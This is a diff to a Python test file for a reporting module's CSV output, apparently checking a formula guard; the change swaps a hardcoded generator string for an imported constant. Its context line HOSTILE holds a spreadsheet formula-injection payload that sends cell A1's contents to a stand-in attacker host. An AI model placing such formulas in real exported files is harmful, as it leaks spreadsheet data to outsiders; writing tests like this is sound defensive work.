@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 
 from reporting import generate_report, verify_report
+from reporting.build import UNGUARDED_CSV
 from reporting.csvout import CsvSink, guard_formula
 from reporting.manifest import manifest_path, sign_manifest, write_manifest
 from risk_controls.domain import Side
@@ -22,7 +23,7 @@ from tests.reporting.conftest import read_csv
 from tests.reporting.daylog import DAY, DayLog, SampleLog
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"details")'
-OLD_GENERATOR = "compliance-gateway reporting 1"
+OLD_GENERATOR = UNGUARDED_CSV
 
 
 @pytest.mark.parametrize(
